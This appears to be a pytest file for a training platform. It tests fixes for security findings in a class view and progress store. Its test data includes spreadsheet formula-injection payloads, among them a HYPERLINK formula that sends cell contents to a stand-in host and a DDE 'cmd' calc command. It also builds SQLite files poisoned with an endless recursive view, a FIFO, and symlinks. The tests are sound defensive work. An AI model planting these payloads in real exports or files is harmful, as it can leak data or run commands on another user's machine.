"""A trainee controls their home and what they type: none of it may be turned against the class (issue "A class
that cannot be turned against itself", items 6, 7 and 15).  Each test is named after the finding; each failed on
the code before its fix (c8663e6)."""

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys

import pytest

from exercises import progress
from exercises.classview import class_rows, rows_csv
from exercises.progress import Attempt, ProgressStore, ProgressStoreError, read_attempts
from itbcore.errors import InputError

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading CR",
)


# -- item 7: CSV export ----------------------------------------------------------------------------------------
def test_csv_export_writes_formulas_as_typed_hyperlink_and_at_sum_are_neutralised():
    attempts = {}
    for i, f in enumerate(FORMULAS):
        attempts[f] = [Attempt(f"{i:032x}", f, f, 1, "p", f, False, f, "check", "2026-12-02T10:00:00")]
    text = rows_csv(class_rows(attempts))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    trainees = {r[0] for r in rows[1:]}
    assert trainees == {"'" + f for f in FORMULAS}  # kept, as text: the educator still reads what was typed


def test_csv_export_leaves_numbers_and_plain_text_as_they_are():
    a = Attempt("1" * 32, "ana", "dilution", 3, "diluent", "glucose", False, "glucose", "check", "2026-12-02T10:00:00")
    rows = list(csv.reader(io.StringIO(rows_csv(class_rows({"ana": [a]})))))
    assert rows[1][:7] == ["ana", "dilution", "1", "0", "0", "2026-12-02T10:00:00", "glucose ×1"]


# -- item 6: the class view poisoned by a trainee's own progress file -----------------------------------------
_VIEW_SCRIPT = r"""
import json, sys
import exercises.class_view_app as cv
cv.hub_class = lambda *a, **k: [(n, "") for n in sys.argv[1].split(",")]
app = cv.build_app(course_root=sys.argv[2])
print(json.dumps({"rows": [[r.trainee, r.exercise, r.attempts, r.slips] for r in app.rows],
                  "refused": app.refused, "csv": cv.rows_csv(app.rows)}))
"""


def _class_view(root, trainees, tmp_path, timeout=60):
    """The class view over ``root/<trainee>/itb/progress.sqlite``, built in a subprocess (a poisoned file that
    hangs the reader fails the test at the timeout instead of hanging the test run)."""
    env = dict(os.environ, ITB_CLASS_PROGRESS_ROOT=str(root), ITB_COURSE="itb", PYTHONPATH=os.getcwd())
    env.pop("JUPYTERHUB_API_TOKEN", None)
    try:
        out = subprocess.run(
            [sys.executable, "-c", _VIEW_SCRIPT, ",".join(trainees), str(tmp_path / "course")],
            capture_output=True,
            text=True,
            timeout=timeout,
            env=env,
            cwd=os.getcwd(),
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"the class view did not finish within {timeout} s")
    assert out.returncode == 0, out.stderr[-2000:]
    return json.loads(out.stdout.strip().splitlines()[-1])


def _trainee_file(root, name, n=1):
    store = ProgressStore(root / name / "itb" / "progress.sqlite", per_minute=None)
    for i in range(n):
        store.add(name, "dilution", i, "diluent", "glucose", False, "glucose")
    return store.path


def _shown(view, trainee):
    return [r for r in view["rows"] if r[0] == trainee]


def test_class_view_poisoned_by_a_view_named_attempts_that_never_ends(tmp_path):
    root = tmp_path / "root"
    _trainee_file(root, "t2")
    bad = _trainee_file(root, "t1")
    conn = sqlite3.connect(bad)
    conn.executescript(
        "DROP TABLE attempts; CREATE VIEW attempts AS WITH RECURSIVE r(id) AS "
        "(SELECT 1 UNION ALL SELECT id + 1 FROM r) SELECT hex(id) AS uid, 't1' AS trainee, "
        "'x' AS exercise, 1 AS seed, 'p' AS part, 'a' AS answer, 0 AS correct, NULL AS slip, "
        "'check' AS kind, '2026-01-01' AS created_at, NULL AS override_reason, id FROM r;"
    )
    conn.close()
    view = _class_view(root, ["t1", "t2"], tmp_path)
    assert _shown(view, "t2") and not _shown(view, "t1")
    # named by the trainee, with why; the file's path only in the server's log (issue 22: no path on a page)
    assert any(r.startswith("t1:") and "view" in r for r in view["refused"])
    assert not any(str(bad) in r for r in view["refused"])


def test_class_view_poisoned_by_a_fifo_at_the_database_path(tmp_path):
    root = tmp_path / "root"
    _trainee_file(root, "t2")
    fifo = root / "t1" / "itb" / "progress.sqlite"
    fifo.parent.mkdir(parents=True)
    os.mkfifo(fifo)
    view = _class_view(root, ["t1", "t2"], tmp_path)
    assert _shown(view, "t2") and not _shown(view, "t1")
    assert any(r.startswith("t1:") and "not a regular file" in r for r in view["refused"])


def test_class_view_poisoned_by_a_blob_value_in_the_progress_file(tmp_path):
    root = tmp_path / "root"
    _trainee_file(root, "t2")
    bad = _trainee_file(root, "t1")
    conn = sqlite3.connect(bad)
    conn.execute("UPDATE attempts SET slip = X'3d484950455201ff', answer = X'00'")
    conn.commit()
    conn.close()
    view = _class_view(root, ["t1", "t2"], tmp_path)
    assert _shown(view, "t2") and not _shown(view, "t1")
    assert any(r.startswith("t1:") and "types" in r for r in view["refused"])


def test_class_view_shows_a_symlink_to_another_trainees_file_as_the_first_trainees(tmp_path):
    root = tmp_path / "root"
    other = _trainee_file(root, "t2", n=3)
    (root / "t1" / "itb").mkdir(parents=True)
    (root / "t1" / "itb" / "progress.sqlite").symlink_to(other)  # the file itself a link
    (root / "t3").mkdir()
    (root / "t3" / "itb").symlink_to(other.parent)  # a folder on the way a link
    view = _class_view(root, ["t1", "t2", "t3"], tmp_path)
    assert len(_shown(view, "t2")) == 1 and _shown(view, "t2")[0][2] == 3
    assert not _shown(view, "t1") and not _shown(view, "t3")
    assert any(r.startswith("t1:") and "symbolic link" in r for r in view["refused"])
    assert any(r.startswith("t3:") and "symbolic link" in r for r in view["refused"])


def test_class_view_refuses_another_trainees_rows_in_a_trainees_file(tmp_path):
    root = tmp_path / "root"
    _trainee_file(root, "t2")
    bad = _trainee_file(root, "t1")
    ProgressStore(bad).add("t2", "dilution", 9, "diluent", "glucose", False, "forged")  # t1 writes as t2
    view = _class_view(root, ["t1", "t2"], tmp_path)
    assert not _shown(view, "t1") and "forged" not in view["csv"]
    assert any(r.startswith("t1:") and "another trainee's" in r for r in view["refused"])


def test_read_attempts_refuses_a_file_not_owned_by_its_trainee_and_bounds_query_time(tmp_path):
    path = _trainee_file(tmp_path, "t1", n=3000)
    assert len(read_attempts(path, trainee="t1", owner=os.getuid())) == 3000
    with pytest.raises(ProgressStoreError, match="belongs to user id"):
        read_attempts(path, owner=os.getuid() + 1)
    with pytest.raises(ProgressStoreError, match="took longer than"):
        read_attempts(path, timeout=0.0)  # the progress handler interrupts the query past its deadline


# -- item 15: the progress store ------------------------------------------------------------------------------
SECRET = "ANA-ONLY-ANSWER-7f3c"


def _erase(store, trainee):
    """The store's erasure; before it existed, the only way was to delete the rows in the database."""
    if hasattr(store, "erase"):
        return store.erase(trainee)
    conn = sqlite3.connect(store.path)
    conn.execute("DELETE FROM attempts WHERE trainee = ?", (trainee,))
    conn.commit()
    conn.close()


def _bytes_on_disk(folder):
    return b"".join(p.read_bytes() for p in folder.iterdir() if p.is_file())


def test_erased_trainees_rows_come_back_at_the_next_open_by_journal_replay(tmp_path):
    path = tmp_path / "p.sqlite"
    store = ProgressStore(path)
    for i in range(25):  # past the first backup
        store.add("ana", "dilution", i, "diluent", SECRET, False, "glucose")
        store.add("bob", "dilution", i, "diluent", "NaCl 0.9 %", True)
    _erase(store, "ana")
    assert ProgressStore(path).attempts("ana") == []  # reopened: the journal is replayed
    assert len(ProgressStore(path).attempts("bob")) == 25
    path.write_bytes(b"garbage, not a database" * 100)  # recovery: backup + journal merged
    recovered = ProgressStore(path)
    assert recovered.recovered_from is not None
    assert recovered.attempts("ana") == [] and len(recovered.attempts("bob")) == 25
    path.unlink()  # the database gone: everything comes from the journal and the backup
    assert ProgressStore(path).attempts("ana") == []
    assert SECRET.encode() not in _bytes_on_disk(tmp_path)  # erased for real: no file keeps the answer
    later = ProgressStore(path).add("ana", "dilution", 99, "diluent", "after", True)  # a new start is kept
    assert ProgressStore(path).attempts("ana") == [later]


def test_erasure_honours_a_tombstone_against_an_old_copy_of_the_journal(tmp_path):
    path = tmp_path / "p.sqlite"
    store = ProgressStore(path)
    store.add("ana", "dilution", 1, "diluent", SECRET, False)
    old_journal = store.journal.read_bytes()
    store.erase("ana")
    with open(store.journal, "ab") as fh:  # a stale copy of an ana line appended again (a restore, a race)
        fh.write(old_journal)
    assert ProgressStore(path).attempts("ana") == []


def test_200_attempts_in_10_s_were_accepted_rate_limit_per_trainee_per_minute(tmp_path):
    store = ProgressStore(tmp_path / "p.sqlite")
    saved, refused = 0, None
    for i in range(200):
        try:
            store.add("ana", "dilution", i, "diluent", "glucose", False)
            saved += 1
        except InputError as exc:
            refused = exc
            break
    assert refused is not None and "in the last minute" in str(refused)
    assert saved == getattr(progress, "MAX_ATTEMPTS_PER_MINUTE", 200) < 200
    store.add("bob", "dilution", 1, "diluent", "glucose", False)  # another trainee is not held up


def test_total_attempts_per_trainee_are_bounded(tmp_path):
    store = ProgressStore(tmp_path / "p.sqlite", per_minute=None, per_trainee=30)
    for i in range(30):
        store.add("ana", "dilution", i, "diluent", "glucose", False)
    with pytest.raises(InputError, match="the most the store keeps"):
        store.add("ana", "dilution", 31, "diluent", "glucose", False)


def test_names_over_200_characters_accepted_then_lost_at_recovery_are_refused(tmp_path):
    path = tmp_path / "p.sqlite"
    store = ProgressStore(path)
    long_name = "a" * 201
    with pytest.raises(InputError, match="at most 200 characters"):
        store.add(long_name, "dilution", 1, "diluent", "glucose", False)
        path.write_bytes(b"garbage")  # (old code) what was accepted is lost at recovery
        assert ProgressStore(path).attempts(long_name)
    store.add("b" * 200, "dilution", 1, "diluent", "glucose", False)  # the maximum itself is kept
    path.write_bytes(b"garbage")
    assert len(ProgressStore(path).attempts("b" * 200)) == 1


def test_names_over_200_characters_are_refused_by_the_practice_app_assessment_app_and_load_exercise(
    tmp_path, monkeypatch
):
    from exercises.app import PracticeApp
    from exercises.assessment_app import AssessmentApp
    from exercises.core import load_exercise

    monkeypatch.delenv("JUPYTERHUB_USER", raising=False)
    long_name = "n" * 201
    app = PracticeApp(progress_path=tmp_path / "p.sqlite", seed=3)
    app.trainee.value = long_name
    app.open_case("test_bolus_volume", 8)
    view = app.parts.children[0]
    right = load_exercise("test_bolus_volume", seed=8).solution()
    view.input.value = f"{right.to('mL').magnitude:g} mL"
    view.check_button.click()
    assert "Correct" in view.feedback.value  # the feedback still shows
    assert "at most 200 characters" in app.status.value and app.store.attempts() == []
    test = AssessmentApp(tmp_path / "q.sqlite")
    test.trainee.value = long_name
    test.pre.start_button.click()
    assert "at most 200 characters" in test.pre.status.value and not test.pre.parts
    with pytest.raises(InputError, match="at most 200 characters"):
        load_exercise("test_bolus_volume", seed=8, trainee=long_name, progress=True)
